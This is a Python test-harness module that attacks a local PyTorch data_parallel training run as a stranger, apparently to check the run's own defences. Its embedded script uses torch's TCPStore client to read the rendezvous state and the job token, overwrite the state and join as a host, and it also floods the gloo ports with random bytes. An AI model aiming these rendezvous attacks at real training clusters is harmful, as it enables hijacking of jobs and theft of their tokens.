"""A stranger to a data_parallel run's rendezvous, as the issue-49 reviewer was: torch's own
TCPStore client on the run's store port reads the rendezvous state and the job's token,
overwrites the state, and joins the rendezvous as a host (torch's `DynamicRendezvousHandler`
over `C10dRendezvousBackend`); junk goes to each of the workers' gloo ports. Run as this user
(the store's authentication is then all that stands) or as another one (uid nobody: the fence
first). The tests (tests/data_parallel/test_world.py) and bench/abuse_bench.py run it from here.
"""

from __future__ import annotations

import json
import os
import signal
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import psutil

from labtools.attacks.local_user import (
    Listening,
    SplitRun,
    as_other_user,
    listening,
    split_run,
)

STORE_ATTACKS = ("read the state", "read the job token", "join as a host", "overwrite the state")
STRANGER = r"""
import json, os, sys, threading
from datetime import timedelta
import torch.distributed as dist

host, port, run_id, timeout_s = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
out = {}

def bounded(name, call):
    # torch's client can wait for ever on a port that does not speak its protocol
    box = {}
    def go():
        try:
            box["value"] = call()
        except BaseException as exc:
            box["error"] = f"{type(exc).__name__}: {str(exc).splitlines()[0][:160]}"
    thread = threading.Thread(target=go, daemon=True)
    thread.start()
    thread.join(timeout_s)
    if "error" in box:
        out[name] = "refused: " + box["error"]
    elif "value" not in box:
        out[name] = f"refused: no answer in {timeout_s:g}s"
    else:
        out[name] = "served: " + repr(box["value"])[:120]
    return box.get("value")

store = bounded("connect", lambda: dist.TCPStore(host, port, is_master=False,
                                                 timeout=timedelta(seconds=timeout_s)))
key = "torch.rendezvous." + run_id

def join():
    from torch.distributed.elastic.rendezvous import RendezvousParameters
    from torch.distributed.elastic.rendezvous.c10d_rendezvous_backend import C10dRendezvousBackend
    from torch.distributed.elastic.rendezvous.dynamic_rendezvous import create_handler
    params = RendezvousParameters("c10d", f"{host}:{port}", run_id, 1, 4, join_timeout=timeout_s,
                                  last_call_timeout=1)
    handler = create_handler(store, C10dRendezvousBackend(store, run_id), params)
    info = handler.next_rendezvous()
    return f"rank {info.rank} of {info.world_size}"

attacks = {
    "read the state": lambda: store.get(key),
    "read the job token": lambda: store.get("data_parallel/job"),
    "join as a host": join,
    "overwrite the state": lambda: store.set(key, b"junk from a stranger"),
}
for name, call in attacks.items():
    if store is None:
        out[name] = "refused: no store connection"
    else:
        bounded(name, call)
print(json.dumps(out))
"""
"""Run as `python -c STRANGER host port run_id timeout_s`: one JSON line, each attack
`served: ...` or `refused: why`."""

JUNK = r"""
import json, os, socket, sys
out = []
for host, port in json.loads(sys.argv[1]):
    try:
        with socket.create_connection((host, port), timeout=3) as sock:
            sock.sendall(os.urandom(4096))
        out.append("connected, 4 KiB of junk sent")
    except OSError as exc:
        out.append(f"no connection: {exc}")
print(json.dumps(out))
"""


def attack_store(
    host: str, port: int, run_id: str, *, other_user: bool = False, timeout_s: float = 5.0
) -> dict[str, str]:
    """STORE_ATTACKS (and the connection) on the store at host:port, as this user or as uid
    nobody: per attack, `served: ...` or `refused: why`."""
    argv = [sys.executable, "-c", STRANGER, host, str(port), run_id, str(timeout_s)]
    if other_user:
        done = as_other_user(argv, timeout_s=120)
    else:
        import subprocess

        done = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"the stranger's script failed: {done.stderr[-2000:]}")
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


def junk_to(targets: list[tuple[str, int]], *, other_user: bool) -> list[str]:
    """4 KiB of random bytes to each (address, port): `connected, ...` or why not."""
    argv = [sys.executable, "-c", JUNK, json.dumps(targets)]
    if other_user:
        done = as_other_user(argv, timeout_s=120)
    else:
        import subprocess

        done = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"the junk sender failed: {done.stderr[-2000:]}")
    return list(json.loads(done.stdout.strip().splitlines()[-1]))


TRAIN = (
    "dp.steps=40",
    "dp.workers=2",
    "dp.batch_size=2",
    "dp.max_train_blocks=256",
    "dp.eval_blocks=4",
    "dp.eval_every=0",
    "dp.checkpoint_every=0",
)
"""A short local data_parallel run (debug model): the attacks' target and its control."""


@dataclass
class RunListeners:
    agent: Listening
    """The agent process: its store's listener."""
    workers: list[Listening]
    """Each worker: gloo's listeners."""

    @property
    def store(self) -> tuple[str, int]:
        return self.agent.inet[0]

    @property
    def gloo(self) -> list[tuple[str, int]]:
        return [address for worker in self.workers for address in worker.inet]


def run_listeners(run: SplitRun, *, num_workers: int, timeout_s: float = 300.0) -> RunListeners:
    """Once every worker of a local run listens (its process group is up): who listens where."""
    deadline = time.monotonic() + timeout_s
    while True:
        if run.proc.poll() is not None:
            raise RuntimeError("the run ended early:\n" + "".join(run.lines[-40:]))
        found = [item for item in listening(run.proc.pid) if item.inet]
        agents = [item for item in found if "role=worker" in item.name]
        workers = [item for item in found if item not in agents]
        if len(agents) == 1 and len(workers) == num_workers:
            return RunListeners(agents[0], workers)
        if time.monotonic() > deadline:
            raise RuntimeError(f"the run's workers did not listen within {timeout_s:.0f}s")
        time.sleep(0.2)


@contextmanager
def workers_held_still(listeners: RunListeners) -> Iterator[None]:
    """The workers stopped (SIGSTOP) for the block, so the attacks meet a run that is still
    training however slow the machine (their listeners stay open; the agent and its store run
    on)."""
    pids = [worker.pid for worker in listeners.workers]
    for pid in pids:
        os.kill(pid, signal.SIGSTOP)
    try:
        yield
    finally:
        for pid in pids:
            if psutil.pid_exists(pid):
                os.kill(pid, signal.SIGCONT)


@dataclass
class DataParallelAttack:
    fence: str
    listeners: RunListeners
    store: dict[str, str]
    """Per attack on the store: `served: ...` or `refused: why`."""
    gloo: list[str]
    """Per gloo port: what the junk met."""
    tcpstore: dict[str, str]
    """Per gloo port (`host:port`): what torch's TCPStore client met there."""
    returncode: int | None
    final_loss: float | None


def final_loss(run_dir: Path) -> float | None:
    from lab.records import read_records

    metrics = run_dir / "metrics.jsonl"
    summaries = [r for r in read_records(metrics) if r.get("kind") == "summary"]
    return float(summaries[-1]["final_loss"]) if summaries else None


def attack_local_data_parallel_run(
    folder: Path, *, other_user: bool, overrides: tuple[str, ...] = ()
) -> DataParallelAttack:
    """A local data_parallel run (TRAIN) attacked, its workers held still meanwhile: the store
    attacks, torch's TCPStore client at every gloo port (none may answer as a store), then junk
    to each; then the run goes on to its end."""
    with split_run(folder, *TRAIN, *overrides, module="data_parallel") as run:
        listeners = run_listeners(run, num_workers=2)
        fence_line = next((line.strip() for line in run.lines if "fence:" in line), "")
        run_id = f"data_parallel-{listeners.store[1]}"
        with workers_held_still(listeners):
            store = attack_store(*listeners.store, run_id, other_user=other_user)
            tcpstore = {
                f"{host}:{port}": attack_store(host, port, run_id, other_user=other_user)["connect"]
                for host, port in listeners.gloo
            }
            gloo = junk_to(listeners.gloo, other_user=other_user)
        returncode = run.proc.wait(timeout=600)
    return DataParallelAttack(
        fence_line, listeners, store, gloo, tcpstore, returncode, final_loss(run.run_dir)
    )
